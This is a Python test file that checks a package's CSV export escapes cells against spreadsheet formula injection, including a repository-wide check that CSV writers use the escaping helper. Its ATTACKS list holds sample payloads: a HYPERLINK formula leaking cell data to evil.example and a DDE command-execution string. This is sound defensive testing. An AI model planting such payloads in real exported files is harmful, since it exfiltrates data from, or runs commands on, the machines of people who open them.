"""Words of records are no formulas when a table is opened with a spreadsheet, and come back as they were."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from lifecourse.base.spreadsheets import BEGINS_FORMULA, escaped_text, read_text, without_formulas

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "'=1",
    "''",
]
# People who do not exist (lines of JSON, tables) and code systems: read by programs alone, no word of a record in them.
MAY_WRITE_CSV = {
    "care/pgx/importing.py",
    "simulation/fhir.py",
    "simulation/omop.py",
    "simulation/places.py",
}


@given(st.lists(st.text(max_size=6) | st.sampled_from(ATTACKS), max_size=20))
def test_no_cell_is_a_formula_and_each_comes_back(cells: list[str]) -> None:
    table = pl.DataFrame(
        {"=name": cells, "number": [-1.5] * len(cells)}, schema_overrides={"=name": pl.String}
    )
    written = without_formulas(table).write_csv()
    rows = list(csv.reader(io.StringIO(written, newline="")))
    assert [read_text(name) for name in rows[0]] == ["=name", "number"]
    for row, cell in zip(rows[1:], cells, strict=True):
        assert not row[0].startswith(BEGINS_FORMULA)
        assert read_text(row[0]) == cell
        assert row[1] == "-1.5"


@given(st.text(max_size=6))
def test_one_cell_and_a_column_are_escaped_alike(text: str) -> None:
    (cell,) = without_formulas(pl.DataFrame({"x": [text]}))["x"]
    assert cell == escaped_text(text)
    assert read_text(cell) == text


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_begins_a_formula_is_escaped(attack: str) -> None:
    assert escaped_text(attack) == f"'{attack}"


def test_nulls_stay_nulls() -> None:
    assert without_formulas(pl.DataFrame({"x": [None, "a"]}))["x"].to_list() == [None, "a"]


def test_every_csv_that_people_open_is_written_without_formulas(repository: Path) -> None:
    package = repository / "src" / "lifecourse"
    for path in package.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        calls = [node for node in ast.walk(ast.parse(text)) if isinstance(node, ast.Call)]
        called = [node.func.attr for node in calls if isinstance(node.func, ast.Attribute)]
        writers = [
            name for name in called if name in ("write_csv", "sink_csv", "writerow", "DictWriter")
        ]
        if writers and str(path.relative_to(package)) not in MAY_WRITE_CSV:
            assert text.count(".write_csv(") == text.count("without_formulas(") == len(writers), (
                path
            )
